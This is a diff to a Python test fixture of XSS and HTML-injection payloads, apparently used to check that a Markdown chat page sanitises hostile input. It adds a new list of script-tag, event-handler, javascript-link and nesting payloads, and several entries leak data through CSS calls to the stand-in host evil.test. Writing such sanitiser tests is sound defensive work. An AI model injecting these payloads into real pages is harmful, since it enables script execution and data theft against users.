@@ -7,6 +7,8 @@ this page is made of: markdown-it, nh3, pygments, math-core, Vue, Quasar, and st
 
 from __future__ import annotations
 
+from pathlib import Path
+
 HTML = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.test/x.js></sCrIpT>",
@@ -81,7 +83,8 @@ MUTATION = [
 CSS = [
     "<style>*{display:none!important}</style>",
     "<style>@import 'https://evil.test/x.css';body{background:url(https://evil.test/b.png)}</style>",
-    "<style>[aria-label=Message]{background:url(https://evil.test/leak)}@font-face{font-family:x;src:url(//evil.test/f)}</style>",
+    "<style>[aria-label=Message]{background:url(https://evil.test/leak)}@font-face{fo"
+    "nt-family:x;src:url(//evil.test/f)}</style>",
     "<div style='position:fixed;inset:0;z-index:9999;background:red'>over everything</div>",
     "<p style='margin-top:-9999px;transform:scale(50);font-size:9999px'>huge</p>",
     "<div style='background:url(https://evil.test/b.png);list-style:url(https://evil.test/l)'>x</div>",
@@ -114,7 +117,8 @@ MARKDOWN = [
     "    </code></pre><script>alert(1)</script>",
     "| <img src=x-evil onerror=alert(1)> | [x](javascript:alert(1)) |\n|:-:|-:|\n| `</td>` <script>alert(1)</script> |",
     "- [x] <input autofocus onfocus=alert(1)>\n- [ ] [x](javascript:alert(1))\n- [x] </label><form action=//evil.test>",
-    "x[^1][^<b>]\n\n[^1]: <img src=x-evil onerror=alert(1)>\n[^<b>]: [x](javascript:alert(1)) ![x](https://evil.test/n)",
+    "x[^1][^<b>]\n\n[^1]: <img src=x-evil onerror=alert(1)>\n[^<b>]: [x](javascript:alert(1))"
+    " ![x](https://evil.test/n)",
     '[^"><img src=x-evil onerror=alert(1)>]\n\n[^"><img src=x-evil onerror=alert(1)>]: x',
     "# <img src=x-evil onerror=alert(1)>\n\nx {#conversations .page style=position:fixed}\n===",
     "1000000000. <script>alert(1)</script>\n> > > </blockquote><script>alert(1)</script>",
@@ -167,10 +171,34 @@ UNICODE = [
     "W" * 5_000,
 ]
 
+# What the page reads besides Markdown.
+BLOCKS = [
+    "<details open>\n<summary><img src=x-evil onerror=alert(1)></summary>\n<script>alert(1)</script>\n</details>",
+    "<details ontoggle=alert(1) open>\n<summary onclick=alert(1)>x</summary>\n</details><details"
+    " name=x open><a href=javascript:alert(1)>",
+    "<sub onmouseover=alert(1)>x</sub> <sub><script>alert(1)</script></sub> <kbd><img"
+    " src=x-evil onerror=alert(1)></kbd>",
+    "<sup>" * 200 + "<b>" * 200 + "x" + "</b>" * 200 + "</sup>" * 200,
+    "<details>\n" * 120 + "deep\n" + "</details>\n" * 120,
+    'https://evil.test/"onmouseover=alert(1)//'
+    " https://evil.test/<img/src=x-evil/onerror=alert(1)> www.evil.test'onclick=alert(1)",
+    'https://evil.test:javascript:alert(1) http://javascript:alert(1)@evil.test me@evil.test"onclick=alert(1)',
+    "سلام <script>alert(1)</script> /etc/<img src=x-evil onerror=alert(1)> https://evil.test/\u202egnp.exe",
+    "```markdown\n```html\n<script>alert(1)</script>\n```\n</code></pre><img src=x-evil onerror=alert(1)>\n```",
+    "| `</td>|<script>alert(1)</script>` | $<img|src=x-evil onerror=alert(1)>$ |\n|---|---|\n| `a|</table><b>` | x |",
+    "\\begin{align}\n</math><img src=x-evil onerror=alert(1)>\n\n\\end{align}"
+    " $\\ce{<script>alert(1)</script> ->[</math><b>] x}$",
+    "```svg\n<svg onload=alert(1)><script>alert(1)</script></svg>\n```\n```mermaid\ngraph"
+    " TD\nA[<img src=x-evil onerror=alert(1)>]\n```",
+]
+
+# Code that a page shows as what it describes: pages in frames, diagrams.
+CODE = (Path(__file__).parent / "code_payloads.txt").read_text(encoding="utf-8").split("\n=====\n")
+
 PAYLOADS = [
     text.replace("alert(1)", f"alert({n})").replace("evil", f"evil-{n}")
     for n, text in enumerate(
-        [*HTML, *SVG_AND_MATHML, *MUTATION, *CSS, *LINKS, *MARKDOWN, *MATHS, *TEMPLATES, *CLOBBERING, *UNICODE]
+        [*HTML, *SVG_AND_MATHML, *MUTATION, *CSS, *LINKS, *MARKDOWN, *MATHS, *TEMPLATES, *CLOBBERING, *UNICODE, *BLOCKS]
     )
 ]
 
